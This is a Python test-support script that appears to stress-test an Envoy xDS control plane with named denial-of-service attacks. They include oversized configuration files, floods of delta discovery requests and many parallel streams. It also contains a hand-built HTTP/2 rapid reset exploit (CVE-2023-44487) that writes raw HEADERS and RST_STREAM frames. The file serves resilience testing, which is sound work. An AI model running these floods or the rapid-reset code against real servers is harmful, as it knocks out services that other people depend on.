"""``python -m tests.support.attackers NAME XDS ADMIN FOLDER SECONDS``: one tenant or client that takes all it can get.

``FOLDER`` is the one that the control plane reads. What became of it is printed as one line.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import sys
import time
import urllib.request
from collections.abc import Awaitable, Callable, Mapping
from pathlib import Path
from typing import NamedTuple

import grpc.aio
from envoy.service.discovery.v3.discovery_pb2 import DeltaDiscoveryRequest

from controlplane.envoy.type_urls import CDS, EDS
from tests.support.control_plane import delta, delta_request
from tests.support.manifests import document

NODE = "sidecar~10.0.0.66~mallory-1.mallory~mallory.svc.cluster.local"
NAMES = 100_000
HOSTS, ROUTES = 200, 500
RIVALS = 2000
TINY_DOCUMENTS = 3_000_000
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _RST_STREAM, _SETTINGS, _PING = 1, 3, 4, 6
_ACK = 1
_FRAME_HEAD = 9
_CANCEL = b"\0\0\0\x08"


class Target(NamedTuple):
    """What is attacked, and until when (of the monotonic clock)."""

    xds: str
    admin: str
    folder: Path
    ends: float

    @property
    def goes_on(self) -> bool:
        return time.monotonic() < self.ends


def wide_virtual_service(hosts: int, routes: int, version: int) -> str:
    """Return a VirtualService of ``routes`` for each of ``hosts``."""
    http = [{"match": [{"uri": {"exact": f"/{version}/{number}"}}], "route": [{"destination": {"host": "a"}}]} for number in range(routes)]
    return document("VirtualService", "wide", "mallory", hosts=[f"h{number}.mallory.example" for number in range(hosts)], http=http)


def rival_virtual_services(count: int, version: int) -> str:
    """Return ``count`` VirtualServices for one host."""
    http = [{"route": [{"destination": {"host": f"a{version}"}}]}]
    return "\n---\n".join(
        document("VirtualService", f"v{number}", "mallory", hosts=["one.mallory.example"], http=http) for number in range(count)
    )


async def wide(target: Target) -> str:
    """Write a VirtualService with many hosts and many routes, again and again."""
    version = 0
    while target.goes_on:
        version += 1
        await asyncio.to_thread((target.folder / "wide.yaml").write_text, wide_virtual_service(HOSTS, ROUTES, version))
        await asyncio.sleep(1)
    return f"{version} versions"


async def rivals(target: Target) -> str:
    """Write many VirtualServices for one host, and ask what is wrong with them."""
    asked = version = 0
    while target.goes_on:
        version += 1
        await asyncio.to_thread((target.folder / "rivals.yaml").write_text, rival_virtual_services(RIVALS, version % 2))
        for _ in range(3):
            with contextlib.suppress(OSError):
                await asyncio.to_thread(_get, f"http://{target.admin}/v1/problems")
                asked += 1
    return f"{version} versions, {asked} times asked"


async def documents(target: Target) -> str:
    """Write a file of very many documents, and keep touching it."""
    version = 0
    while target.goes_on:
        version += 1
        text = f"---\n{version % 10}\n" * TINY_DOCUMENTS
        await asyncio.to_thread((target.folder / "tiny.yaml").write_text, text)
        await asyncio.sleep(2)
    return f"{version} versions of {len(text)} bytes"


async def unsubscribing(target: Target) -> str:
    """Subscribe to more and more names, and unsubscribe from as many that were never asked for."""
    rounds = 0

    def request(number: int) -> DeltaDiscoveryRequest:
        nonlocal rounds
        rounds = number
        asked = delta_request(EDS, node=NODE, names=tuple(f"{number}-{name}" for name in range(NAMES // 2)))
        asked.resource_names_unsubscribe.extend(f"no-{name}" for name in range(NAMES // 2))
        return asked

    return f"{await _stream(target, request, most=40)}, {rounds} requests"


async def versions(target: Target) -> str:
    """Say that very many resources are here from earlier streams, on several streams."""

    def request(number: int) -> DeltaDiscoveryRequest:
        asked = delta_request(CDS if number % 2 else EDS, node=NODE, names=("*",))
        asked.initial_resource_versions.update({f"{number}-{name}": "1" for name in range(NAMES * 5)})
        return asked

    ends = await asyncio.gather(*(_stream(target, request, most=2) for _ in range(4)))
    return ", ".join(sorted(ends))


async def names(target: Target) -> str:
    """Ask for as many names as may be, and for as many others, in turn."""
    rounds = 0

    def request(number: int) -> DeltaDiscoveryRequest:
        nonlocal rounds
        rounds = number
        asked = delta_request(EDS, node=NODE, names=tuple(f"{number % 2}-{name}" for name in range(NAMES // 2)))
        if number:
            asked.resource_names_unsubscribe.extend(f"{(number + 1) % 2}-{name}" for name in range(NAMES // 2))
        return asked

    return f"{await _stream(target, request, most=1 << 30)}, {rounds} requests"


async def streams(target: Target) -> str:
    """Open many streams as one client, each with as many names as may be."""

    def request(number: int) -> DeltaDiscoveryRequest:
        return delta_request(EDS, node=NODE, names=tuple(f"{number}-{name:030}" for name in range(NAMES)))

    ends = await asyncio.gather(*(_stream(target, request, most=1) for _ in range(30)))
    return ", ".join(f"{ends.count(end)} x {end}" for end in sorted(set(ends)))


async def resets(target: Target) -> str:
    """Open calls and reset each at once (HTTP/2 rapid reset, CVE-2023-44487)."""
    total = connections = 0
    while target.goes_on:
        with contextlib.suppress(OSError):
            connections += 1
            total += await _reset(target)
    return f"{total} resets on {connections} connections"


async def _reset(target: Target) -> int:
    host, _, port = target.xds.rpartition(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    reading = asyncio.create_task(_acknowledge(reader, writer))
    # Literal header fields without indexing, RFC 7541 section 6.2.2.
    path = b"/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources"
    block = b"".join(
        b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value
        for name, value in (
            (b":method", b"POST"),
            (b":scheme", b"http"),
            (b":path", path),
            (b":authority", b"a"),
            (b"content-type", b"application/grpc"),
            (b"te", b"trailers"),
        )
    )
    writer.write(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
    sent, stream = 0, 1
    try:
        while target.goes_on and not reading.done() and stream < 1 << 30:
            batch = bytearray()
            for _ in range(100):
                batch += _frame(_HEADERS, 4, stream, block) + _frame(_RST_STREAM, 0, stream, _CANCEL)
                stream += 2
            writer.write(bytes(batch))
            await writer.drain()
            sent += 100
    finally:
        reading.cancel()
        writer.close()
    return sent


async def _acknowledge(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Read all, and answer what has to be: who does not acknowledge the server's settings is soon refused."""
    with contextlib.suppress(asyncio.IncompleteReadError):
        while True:
            head = await reader.readexactly(_FRAME_HEAD)
            payload = await reader.readexactly(int.from_bytes(head[:3], "big"))
            if head[3] in (_SETTINGS, _PING) and not head[4] & _ACK:
                writer.write(_frame(head[3], _ACK, 0, payload if head[3] == _PING else b""))


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


async def _stream(target: Target, request: Callable[[int], DeltaDiscoveryRequest], *, most: int) -> str:
    """Send the ``most`` first of ``request`` on one stream and stay until the end, reading; return how it ended."""
    writing = asyncio.Lock()
    async with delta(target.xds) as call:

        async def read() -> None:
            async for answer in call:
                async with writing:
                    await call.write(delta_request(answer.type_url, nonce=answer.nonce))

        reading = asyncio.create_task(read())
        try:
            for number in range(most):
                if not target.goes_on or reading.done():
                    break
                async with writing:
                    await call.write(request(number))
            await asyncio.wait((reading,), timeout=max(0.0, target.ends - time.monotonic()))
            return (await call.code()).name if reading.done() else "goes on"
        except (grpc.RpcError, grpc.aio.BaseError, asyncio.InvalidStateError):
            return (await call.code()).name
        finally:
            reading.cancel()
            await asyncio.gather(reading, return_exceptions=True)


def _get(url: str) -> int:
    with urllib.request.urlopen(url, timeout=60) as answer:
        return len(answer.read())


ATTACKS: Mapping[str, Callable[[Target], Awaitable[str]]] = {
    each.__name__: each for each in (wide, rivals, documents, unsubscribing, versions, names, streams, resets)
}


async def main(name: str, xds: str, admin: str, folder: Path, seconds: float) -> None:
    """Do it."""
    print(json.dumps(await ATTACKS[name](Target(xds, admin, folder, time.monotonic() + seconds))), flush=True)


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], sys.argv[2], sys.argv[3], Path(sys.argv[4]), float(sys.argv[5])))
